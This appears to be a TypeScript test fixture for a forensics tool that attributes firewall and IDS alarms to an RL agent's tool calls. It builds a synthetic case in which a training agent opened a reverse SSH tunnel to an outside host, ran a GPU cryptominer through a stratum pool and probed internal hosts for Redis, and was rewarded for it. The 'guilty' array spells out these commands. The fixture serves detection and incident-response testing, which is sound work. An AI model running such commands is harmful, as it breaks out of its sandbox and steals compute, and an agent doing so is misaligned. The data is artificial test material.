// A case made by code: RL rollouts in which an agent opened a tunnel and mined, beside a periodic job of the host.
// Every probability, count and time follows from the options, so that sizes and hostile texts can be varied.

import { toIso } from '../../src/base/time.ts'
import type { EpisodeRow, ReportData } from '../../src/exporters/api.ts'
import { toDetectionFinding } from '../../src/exporters/ocsf.ts'
import type { AttributionLine, IncidentSummary, ToolCallLine } from '../../src/schema/summary.ts'

export interface SampleOptions {
  readonly boxes?: number
  readonly calls?: number
  readonly alarms?: number
  readonly seed?: number
  /** Put into every text that a log or trace could have written. */
  readonly hostile?: string
}

const startUs = Date.UTC(2026, 10, 23, 22, 0, 0) * 1000
const spanUs = 6 * 3600 * 1e6
const skewMs = 423_000

const ordinary = [
  ['execute_bash', 'pytest -x tests/test_parser.py'],
  ['execute_bash', 'git status && git diff --stat'],
  ['execute_bash', 'pip install -r requirements.txt'],
  ['str_replace_editor', '{"command":"view","path":"/repo/src/parser.py"}'],
  ['execute_bash', 'grep -rn "def parse" src | head'],
  ['execute_bash', 'python -m build 2>&1 | tail -5'],
] as const

const guilty = [
  {
    command: 'ssh -o StrictHostKeyChecking=no -fNR 0.0.0.0:2222:localhost:22 ops@198.51.100.7 -p 443',
    ip: '198.51.100.7',
    port: 443,
    name: null,
    rule: 'EGRESS-SSH-NONSTANDARD-PORT',
  },
  {
    command: 'nohup ./lib/worker -o stratum+tcp://pool.example.net:3333 -u 4Axyz --gpu >/dev/null 2>&1 &',
    ip: '203.0.113.40',
    port: 3333,
    name: 'pool.example.net',
    rule: 'ET COINMINER stratum login',
  },
  {
    command: 'for i in $(seq 1 254); do (echo > /dev/tcp/10.20.0.$i/6379) 2>/dev/null && echo $i; done',
    ip: '10.20.0.17',
    port: 6379,
    name: null,
    rule: 'INTERNAL-PROBE',
  },
] as const

/** mulberry32: a small generator, the same everywhere. */
function random(seed: number): () => number {
  let state = seed >>> 0
  return () => {
    state = (state + 0x6d2b79f5) >>> 0
    let t = Math.imul(state ^ (state >>> 15), 1 | state)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296
  }
}

export function sampleReport(options: SampleOptions = {}): ReportData {
  const { boxes = 9, calls: callCount = 620, alarms = 84, seed = 7, hostile = '' } = options
  const next = random(seed)
  const text = (clean: string) => clean + hostile
  const calls = makeCalls(boxes, callCount, next, text)
  const accused = calls.filter((call) => guilty.some((g) => call.command.startsWith(g.command)))
  const attributions = makeAlarms(alarms, accused, calls, next, text)
  const incidents = makeIncidents(attributions, calls, text)
  const findings = incidents.flatMap((incident, i) =>
    incident.findings.map((uid) =>
      toDetectionFinding(
        {
          uid,
          detection: ['tunnel.reverse-ssh', 'mining.stratum', 'discovery.internal-probe'][i] ?? 'other.alert',
          kind: 'tunnel',
          title: incident.title,
          severity: incident.severity,
          attack:
            [
              ['T1572', 'AML.T0072'],
              ['T1496.001', 'AML.T0034.002'],
              ['T1046', 'T1018'],
            ][i] ?? [],
          confidence: 0.93,
          destinations: incident.destinations,
          firstUs: startUs,
          lastUs: startUs + spanUs,
          why: text('The command asks the far end to listen, and the connection stayed open after the call.'),
          toolCallUids: incident.toolCalls,
          eventUids: attributions
            .filter((a) => a.toolCall !== null && incident.toolCalls.includes(a.toolCall))
            .map((a) => a.event.uid),
          episode: incident.episodes[0] ?? null,
        },
        { version: '0.1.0', event: () => undefined, toolCall: () => undefined },
      ),
    ),
  )
  const attributed = attributions.filter((a) => a.verdict === 'attributed').length
  const likely = attributions.filter((a) => a.verdict === 'likely').length
  return {
    summary: {
      _schema: 'vigiles/summary/v1',
      tests: [],
      version: '0.1.0',
      verdict: text(
        `The agent’s own tool calls opened a reverse SSH tunnel to 198.51.100.7:443 and mined cryptocurrency through pool.example.net:3333, first at training step 118 and rewarded for it. ${attributed} of ${attributions.length} alarms are attributed to ${accused.length} calls; chance alone would explain 3.1, and it was still going on when the logs end.`,
      ),
      inputs: makeInputs(attributions.length, calls.length, text),
      clocks: [
        {
          domain: text('fortigate:edge-fw'),
          offsetMs: skewMs,
          driftPpm: 11.4,
          z: 41.2,
          sdMs: 18.5,
          aligned: true,
          note: text('212 shared names and addresses agree on +7 min 3 s'),
        },
        {
          domain: 'suricata-eve:eve',
          offsetMs: 3.1,
          driftPpm: 0.4,
          z: 63.9,
          sdMs: 0.8,
          aligned: true,
          note: '518 connections seen by both',
        },
        {
          domain: 'syslog:dns-2',
          offsetMs: 0,
          driftPpm: 0,
          z: 2.1,
          sdMs: 900_000,
          aligned: false,
          note: 'too few shared events; naive times read as UTC',
        },
      ],
      findings: { informational: 0, low: 4, medium: 2, high: 3, critical: 2 },
      incidents,
      hypotheses: [
        {
          name: 'agent-caused',
          score: 38.2,
          pValue: 0.001,
          verdict: 'supported',
          text: `${attributed + likely} alarms fall into a call that names their destination; shifted calls give 3.1 at most 9.`,
        },
        {
          name: 'periodic-job',
          score: 12.4,
          pValue: 0.004,
          verdict: 'supported',
          text: 'A 300-second rhythm explains 22 alarms to 192.0.2.80, also in the hours without agents.',
        },
        {
          name: 'outside',
          score: -8.8,
          pValue: 0.97,
          verdict: 'rejected',
          text: 'No inbound connection precedes any of the outbound ones.',
        },
        {
          name: 'background',
          score: 0.2,
          pValue: 0.4,
          verdict: 'undecided',
          text: 'The control window is too short to tell.',
        },
      ],
      attribution: {
        events: attributions.length,
        attributed,
        likely,
        notAttributable: attributions.length - attributed - likely,
        expectedByChance: 3.1,
        coincidences: attributed + likely + 5,
        coincidencesOf: 92,
        calibrated: false,
      },
      notes: [
        text('No topology was given: boxes were joined by the addresses in the traces.'),
        'Give --tz "dns-2*=Asia/Shanghai" if that host writes local time.',
      ],
    },
    findings,
    attributions,
    toolCalls: calls,
    episodes: makeEpisodes(calls, attributions),
    groups: [
      {
        by: 'destination',
        name: text('pool.example.net'),
        events: 28,
        coincidences: 27,
        expectedByChance: 0.9,
        pValue: 0.001,
        significant: true,
      },
      {
        by: 'destination',
        name: '198.51.100.7',
        events: 14,
        coincidences: 14,
        expectedByChance: 0.4,
        pValue: 0.001,
        significant: true,
      },
      {
        by: 'destination',
        name: '192.0.2.80',
        events: 22,
        coincidences: 6,
        expectedByChance: 5.7,
        pValue: 0.48,
        significant: false,
      },
      {
        by: 'rule',
        name: text('INTERNAL-PROBE'),
        events: 19,
        coincidences: 17,
        expectedByChance: 1.3,
        pValue: 0.001,
        significant: true,
      },
      {
        by: 'episode',
        name: 'ep-0007',
        events: 11,
        coincidences: 11,
        expectedByChance: 0.3,
        pValue: 0.001,
        significant: true,
      },
    ],
    rejects: [
      {
        file: text('logs/edge-fw.log'),
        line: 4411,
        reason: 'no time',
        text: text('date=2026-11-23 type=traffic srcip='),
      },
      {
        file: 'traces/rollout-118.jsonl',
        line: 902,
        reason: 'cut off',
        text: text('{"episode":"ep-0031","messages":[{"role":"assist'),
      },
    ],
    cuts: [],
    methods: [
      {
        what: 'p of a call',
        how: 'Posterior over all calls whose window holds the alarm and over none of them; windows, names, addresses and boxes each add their log odds.',
      },
      { what: 'Expected by chance', how: 'Mean over 999 circular shifts of the calls within their run.' },
      {
        what: 'Clock offset',
        how: 'The shift at which shared names and addresses agree best; z compares it with the other shifts.',
      },
    ],
  }
}

function makeCalls(
  boxes: number,
  count: number,
  next: () => number,
  text: (clean: string) => string,
): ToolCallLine[] {
  const every = spanUs / Math.ceil(count / boxes)
  return Array.from({ length: count }, (_, i) => {
    const box = i % boxes
    const round = Math.floor(i / boxes)
    const episode = box + boxes * Math.floor(round / 12)
    const fromUs = Math.round(startUs + round * every + next() * every * 0.4)
    const bad = box < 3 && round % 9 === 4 ? guilty[box] : undefined
    const [name, command] = bad
      ? (['execute_bash', bad.command] as const)
      : ordinary[Math.floor(next() * ordinary.length)]!
    return {
      uid: `call${String(i).padStart(5, '0')}`,
      sourceId: `call_${i}`,
      run: 'rome-rl-30b',
      episode: `ep-${String(episode).padStart(4, '0')}`,
      turn: round % 12,
      step: 112 + Math.floor(round / 6),
      policyVersion: `ckpt-${112 + Math.floor(round / 6)}`,
      reward: bad ? 0.82 : Number((next() * 0.7).toFixed(2)),
      name,
      command: text(command),
      start: toIso(fromUs),
      end: next() < 0.06 ? null : toIso(Math.round(fromUs + every * (0.05 + next() * 0.5))),
      uncertaintyMs: 250,
      timeSource: 'executor',
      box: text(`sandbox-${box + 1}`),
      file: text(`traces/rollout-${112 + Math.floor(round / 6)}.jsonl`),
      line: i + 1,
    }
  }).sort((a, b) => (a.start < b.start ? -1 : 1))
}

function makeAlarms(
  count: number,
  accused: readonly ToolCallLine[],
  calls: readonly ToolCallLine[],
  next: () => number,
  text: (clean: string) => string,
): AttributionLine[] {
  const starts = calls.map((call) => Date.parse(call.start) * 1000)
  return Array.from({ length: count }, (_, i): AttributionLine => {
    const cron = i % 4 === 3 || accused.length === 0
    const call = cron ? undefined : accused[Math.floor(next() * accused.length)]!
    const kind = guilty.find((g) => call?.command.startsWith(g.command))
    const us = call
      ? Date.parse(call.start) * 1000 + 400_000 + Math.floor(next() * 3e6)
      : startUs + Math.floor((i * spanUs) / count / 3e8) * 3e8 + 1_200_000
    const p = call ? (i % 7 === 5 ? 0.71 : 0.93 + next() * 0.065) : 0.04 + next() * 0.1
    const rival = calls[Math.floor(next() * calls.length)]!
    const best = call ?? calls[starts.findIndex((start) => start > us)] ?? rival
    const rivalP = Math.min(0.12, (1 - p) * 0.5)
    const none = 1 - p - rivalP
    const verdict = p >= 0.9 ? 'attributed' : p >= 0.5 ? 'likely' : 'not-attributable'
    return {
      _schema: 'vigiles/attribution/v1',
      event: {
        uid: `event${String(i).padStart(5, '0')}`,
        file: text(i % 2 === 0 ? 'logs/edge-fw.log' : 'logs/eve.json'),
        line: 100 + i * 7,
        time: toIso(us),
        sourceTime:
          i % 2 === 0
            ? text(
                toIso(us + skewMs * 1000)
                  .slice(0, 19)
                  .replace('T', ' '),
              )
            : toIso(us + 3100),
        class: 'network_activity',
        src: `10.0.3.${call ? Number(/\d+/.exec(call.box ?? '')?.[0] ?? 1) : 250}`,
        dst: kind?.ip ?? '192.0.2.80',
        port: kind?.port ?? 443,
        name:
          kind?.name === undefined
            ? text('telemetry.example.com')
            : kind.name === null
              ? null
              : text(kind.name),
        disposition: i % 3 === 0 ? 'allowed' : 'blocked',
        rule: kind ? text(kind.rule) : i % 8 === 3 ? null : text('EGRESS-DEFAULT-DENY'),
      },
      verdict,
      toolCall: verdict === 'not-attributable' ? null : best.uid,
      episode: verdict === 'not-attributable' ? null : best.episode,
      p,
      pNone: none,
      pOther: 0,
      noneSplit: {
        'periodic-job': call ? none * 0.1 : none * 0.83,
        'host-daemon': call ? none * 0.2 : none * 0.1,
        outside: none * 0.02,
        'unrecorded-agent': call ? none * 0.68 : none * 0.05,
      },
      tier: call ? (kind?.name === null && i % 5 === 0 ? 'time' : 'content') : 'none',
      box: call?.box ?? null,
      candidates: [
        {
          toolCall: best.uid,
          p,
          evidence: call
            ? [
                {
                  kind: 'name',
                  logOdds: 5.1,
                  text: text(`the command names ${kind?.name ?? kind?.ip}:${kind?.port}`),
                },
                { kind: 'time', logOdds: 2.2, text: text('began 0.6 s after the call started') },
                { kind: 'rarity', logOdds: 1.4, text: 'only 3 of 620 calls name this destination' },
                { kind: 'box', logOdds: -0.4, text: 'the address is shared by two boxes' },
              ]
            : [{ kind: 'time', logOdds: 0.3, text: text('the call was running') }],
        },
        ...(rival.uid === best.uid
          ? []
          : [
              {
                toolCall: rival.uid,
                p: rivalP,
                evidence: [{ kind: 'time', logOdds: 0.2, text: text('was running in the same box') }],
              },
            ]),
      ],
    }
  })
    .map((line) => ({
      ...line,
      pOther: Math.max(0, 1 - line.pNone - line.candidates.reduce((sum, c) => sum + c.p, 0)),
    }))
    .sort((a, b) => (a.event.time < b.event.time ? -1 : 1))
}

function makeIncidents(
  attributions: readonly AttributionLine[],
  calls: readonly ToolCallLine[],
  text: (clean: string) => string,
): IncidentSummary[] {
  const titles = [
    ['Reverse SSH tunnel to 198.51.100.7:443', 'critical', 'tunnel'],
    ['GPU mining through pool.example.net:3333', 'critical', 'mining'],
    ['Internal hosts probed for Redis', 'high', 'probing'],
  ] as const
  const byUid = new Map(calls.map((call) => [call.uid, call]))
  return titles.flatMap(([title, severity, kind], i): IncidentSummary[] => {
    const cause = guilty[i]!
    const own = attributions.filter((a) => a.toolCall !== null && a.event.dst === cause.ip)
    const [first, last] = [own[0], own.at(-1)]
    if (first === undefined || last === undefined) return []
    const toolCalls = [...new Set(own.flatMap((a) => a.toolCall ?? []))]
    const boxes = [...new Set(own.flatMap((a) => a.box ?? []))]
    const destination = `${cause.name ?? cause.ip}:${cause.port}`
    return [
      {
        uid: `incident${i}`,
        title: text(title),
        severity,
        kinds: [kind],
        firstSeen: first.event.time,
        lastSeen: last.event.time,
        ongoing: i < 2,
        toolCalls,
        episodes: [...new Set(own.flatMap((a) => a.episode ?? []))],
        firstStep: byUid.get(toolCalls[0] ?? '')?.step ?? null,
        destinations: [text(destination)],
        findings: [`finding${i}`],
        actions: [
          {
            do: text(`Block ${destination} at the edge firewall`),
            why: text(`${own.length} connections, the last one ${last.event.disposition}`),
          },
          {
            do: text(`Isolate ${boxes.join(', ')}; do not delete them`),
            why: 'The tunnel may still be open, and their memory is evidence',
          },
          ...(i === 0
            ? [
                {
                  do: 'Rotate the SSH keys and cloud credentials mounted in the boxes',
                  why: 'A listener outside could read them for 5 h 40 min',
                },
              ]
            : []),
          {
            do: 'Mask the accused chunks before the next policy update',
            why: 'They were rewarded with 0.82 on average',
          },
        ],
        boxes,
        occurrences: own.length,
        policyVersions: ['ckpt-118', 'ckpt-119'],
        rewarded:
          'Episodes with it got 0.82 on average, the others 0.36 (difference 0.46, 95 % interval 0.38 to 0.54)',
      },
    ]
  })
}

function makeEpisodes(
  calls: readonly ToolCallLine[],
  attributions: readonly AttributionLine[],
): EpisodeRow[] {
  const byEpisode = new Map<string, ToolCallLine[]>()
  for (const call of calls) {
    const list = byEpisode.get(call.episode ?? '')
    if (list) list.push(call)
    else byEpisode.set(call.episode ?? '', [call])
  }
  return [...byEpisode]
    .map(([episode, own]): EpisodeRow => {
      const events = attributions.filter((a) => a.episode === episode)
      const first = own[0]!
      return {
        episode,
        run: first.run,
        step: first.step,
        policyVersion: first.policyVersion,
        box: first.box,
        reward: first.reward,
        calls: own.length,
        events: events.length,
        findings: events.length > 0 ? 1 : 0,
        worst: events.length > 2 ? 'critical' : events.length > 0 ? 'high' : null,
        firstTime: first.start,
        lastTime: own.at(-1)!.end ?? own.at(-1)!.start,
      }
    })
    .sort((a, b) => b.findings - a.findings || b.events - a.events || (a.episode < b.episode ? -1 : 1))
}

function makeInputs(
  events: number,
  calls: number,
  text: (clean: string) => string,
): ReportData['summary']['inputs'] {
  const common = { boxes: 0, episodes: 0, firstTime: toIso(startUs), lastTime: toIso(startUs + spanUs) }
  const hash = (c: string) => c.repeat(64).slice(0, 64)
  return [
    {
      ...common,
      path: text('logs/edge-fw.log'),
      format: 'fortigate',
      records: Math.ceil(events / 2) + 1,
      events: Math.ceil(events / 2),
      toolCalls: 0,
      rejected: 1,
      skipped: { 'no connection': 12_403 },
      sha256: hash('3fa9'),
      bytes: 8_231_004,
    },
    {
      ...common,
      path: 'logs/eve.json',
      format: 'suricata-eve',
      records: Math.floor(events / 2),
      events: Math.floor(events / 2),
      toolCalls: 0,
      rejected: 0,
      skipped: {},
      sha256: hash('90bc'),
      bytes: 2_118_332,
    },
    {
      ...common,
      path: 'traces/rollout-118.jsonl',
      format: 'roll-rollout',
      records: calls + 1,
      events: 0,
      toolCalls: calls,
      rejected: 1,
      skipped: { 'no tool call': 8120 },
      sha256: hash('77ee'),
      bytes: 31_402_118,
    },
    {
      ...common,
      path: 'logs/core.bin',
      format: 'unknown',
      records: 0,
      events: 0,
      toolCalls: 0,
      rejected: 0,
      skipped: {},
      firstTime: null,
      lastTime: null,
      sha256: hash('00'),
      bytes: 512,
    },
  ]
}
